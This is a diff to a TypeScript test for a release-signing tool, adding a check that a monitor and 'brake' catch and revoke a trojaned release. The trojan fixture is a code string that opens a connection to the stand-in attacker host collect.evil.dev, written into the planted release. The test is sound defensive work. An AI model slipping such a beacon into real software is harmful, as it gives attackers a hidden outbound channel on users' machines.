@@ -6,22 +6,29 @@ import { test } from "node:test";
 import { liveProject } from "./live-project.test-support.ts";
 import { countersignJson } from "./transcript.test-support.ts";
 
-const { base, project, refused, said, world } = await liveProject();
+const { base, project, refused, said, world } = await liveProject({
+  monitors: [{ holder: "observe-dave", owner: "dave" }],
+  brake: { bits: 12, askers: [{ holder: "brake-dave", owner: "dave" }] },
+});
 
-async function plant(version: string): Promise<string> {
+/** What a trojan starts to do, and does not declare. */
+const talking = 'import { connect } from "node:net";\nconnect(443, "collect.evil.dev");\n';
+
+async function plant(version: string, more?: string): Promise<string> {
   const directory = join(base, version);
   await mkdir(join(directory, "bin"), { recursive: true });
   await writeFile(join(directory, "bin/hello"), `#!/bin/sh\necho hello ${version}\n`);
   await chmod(join(directory, "bin/hello"), 0o755);
+  if (more !== undefined) await writeFile(join(directory, "bin/start.js"), more);
   return directory;
 }
 
-async function release(version: string): Promise<string> {
+async function release(version: string, more?: string): Promise<string> {
   const asked = await countersignJson<{ readonly id: string }>(project, "window", "open", "--as", "alice", "--reason", version);
   assert.equal(await refused("release", "propose", await plant(version), "--version", version), "window-not-open");
   assert.equal(await refused("window", "approve", asked.id, "--as", "alice"), "window-own");
   assert.match(await said("window", "approve", asked.id, "--as", "bob"), /is open for 1 of stable/);
-  const args = ["release", "propose", await plant(version), "--version", version, "--expect", version];
+  const args = ["release", "propose", await plant(version, more), "--version", version, "--expect", version];
   const { digest } = await countersignJson<{ readonly digest: string }>(project, ...args);
   return digest.slice(0, 8);
 }
@@ -53,6 +60,15 @@ test("from a directory to a device, and back, by the commands that the help show
   await said("release", "publish", /order ([0-9a-f]{12})/.exec(recall)?.[1] ?? "");
   assert.match(await said("device", "install", "--dir", "d"), /installed: 1\.0\.0/);
   assert.equal(await refused("device", "rollback", "--dir", "d"), "revoked");
+
+  assert.equal(await refused("brake", "confirm", second, "--as", "alice"), "no-brake");
+  const trojan = await release("1.2.0", talking);
+  await said("release", "approve", trojan, "--as", "bob", "--yes");
+  for (let wait = 0; !(await said("brake", "status")).includes(trojan); wait++) assert.ok(wait < 30, "nobody held the trojan");
+  assert.match(await said("brake", "status"), /holds +71 h +brake-dave +revoke-\w+ +brake of brake-dave: [\d.]+ bits/);
+  assert.match(await said("brake", "confirm", trojan, "--as", "alice"), /is revoked for ever/);
+  assert.match(await said("brake", "status"), new RegExp(`${trojan}\\w+ +confirmed`));
+  assert.match(await said("device", "install", "--dir", "d"), /current: 1\.0\.0/);
 
   assert.match(await said("window", "list"), /closed +1 +alice +bob/);
   assert.match(await said("grant", "list"), /ci +propose +stable +[0-9a-f]{12} +w-[0-9a-f]{16} +1 of 1/);
